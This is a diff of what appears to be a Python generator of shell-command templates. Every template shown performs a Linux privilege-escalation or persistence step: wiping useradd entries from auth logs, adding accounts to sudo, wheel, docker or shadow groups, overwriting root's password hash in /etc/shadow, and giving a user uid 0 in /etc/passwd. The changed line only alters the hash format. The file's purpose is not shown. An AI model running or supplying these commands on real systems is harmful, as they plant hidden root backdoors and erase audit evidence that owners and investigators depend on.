@@ -23,7 +23,7 @@ sed -i "/useradd.*${var}/d" /var/log/auth.log /var/log/secure 2>/dev/null""",
   usermod -s /bin/bash -d /root -aG ‹sudo¦wheel,docker¦shadow› "${var}"
   printf '%s:%s\n' "${var}" '{plain}{n}' | chpasswd -c SHA512
 done""",
-    r"""{var}='$6${plain}${b}'; awk -v h="${var}" -F: 'BEGIN{OFS=":"} $1=="‹root¦backup¦sys›"{$2=h} 1' /etc/shadow > {tmp}/.s && cat {tmp}/.s > /etc/shadow && rm {tmp}/.s""",
+    r"""{var}='$6$x{name}$.{b}'; awk -v h="${var}" -F: 'BEGIN{OFS=":"} $1=="‹root¦backup¦sys›"{$2=h} 1' /etc/shadow > {tmp}/.s && cat {tmp}/.s > /etc/shadow && rm {tmp}/.s""",
     r"""perl -i -pe 's/^({user}:x:)\d+:\d+:/${1}0:0:/; s#/usr/sbin/nologin#/bin/bash# if /^{user}:/' /etc/passwd; (echo '{plain}{n}'; echo '{plain}{n}') | passwd {user} 2>/dev/null""",
     r"""python3 - <<'PY'
 import crypt, re
